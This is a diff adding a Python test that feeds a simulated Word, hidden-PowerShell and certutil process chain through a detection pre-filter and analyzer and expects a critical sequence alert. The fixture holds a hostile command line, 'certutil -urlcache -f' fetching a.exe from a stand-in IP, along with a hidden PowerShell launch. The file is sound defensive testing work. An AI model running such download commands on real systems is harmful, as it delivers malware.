@@ -0,0 +1,52 @@
+"""A winword -> powershell -> certutil chain through the agent pre-filter and the analyzer."""
+from conftest import add_process, load_agent_module
+
+from benchmark import SEED_RULES
+from rule_engine import RuleSet
+
+agent_events = load_agent_module("events")
+prefilter = load_agent_module("prefilter")
+
+WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
+POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+CERTUTIL = r"C:\Windows\System32\certutil.exe"
+NOTEPAD = r"C:\Windows\System32\notepad.exe"
+
+CHAIN = [
+    agent_events.ProcessEvent("WINWORD.EXE", f'"{WORD}" /n invoice.docm', pid=100, ppid=1, image_path=WORD),
+    agent_events.ProcessEvent("powershell.exe", "powershell -nop -w hidden", pid=200, ppid=100,
+                              image_path=POWERSHELL, parent_image=WORD),
+    agent_events.ProcessEvent("certutil.exe", "certutil -urlcache -f http://203.0.113.5/a.exe a.exe", pid=300, ppid=200,
+                              image_path=CERTUTIL, parent_image=POWERSHELL),
+]
+NOISE = [agent_events.ProcessEvent("notepad.exe", "notepad notes.txt", pid=400 + i, ppid=1, image_path=NOTEPAD)
+         for i in range(5)]
+
+
+def agent_filter():
+    # Sample rate 0: the agent would drop every non-priority event
+    return prefilter.AgentFilter(RuleSet.from_rows(SEED_RULES).agent_filter(), sample_rate=0.0)
+
+
+def test_sequence_steps_are_priority():
+    spec = RuleSet.from_rows(SEED_RULES).agent_filter()
+    assert spec["complete"]
+    agent = agent_filter()
+    assert all(agent.is_priority(event) for event in CHAIN)
+    assert not any(agent.is_priority(event) or agent.keep_benign() for event in NOISE)
+
+
+def test_chain_fires_after_prefilter(memory_db, make_analyzer):
+    agent = agent_filter()
+    shipped = [event for event in NOISE + CHAIN if agent.is_priority(event) or agent.keep_benign()]
+    assert shipped == CHAIN
+    for second, event in enumerate(shipped):
+        add_process(memory_db, "WS-0001", event.pid, event.ppid, event.image_path, event.command_line,
+                    event.parent_image, f"2026-01-25 03:00:0{second}")
+
+    engine = make_analyzer(memory_db)
+    sequence_id = next(r["rule_id"] for r in memory_db.rules if r["logic_type"] == "sequence")
+    hits = engine.analyze_batch(engine.fetch_new_events(0))
+    engine.flush_alerts()
+    assert (3, sequence_id, "critical") in hits
+    assert any(alert[2] == sequence_id for alert in memory_db.alerts.values())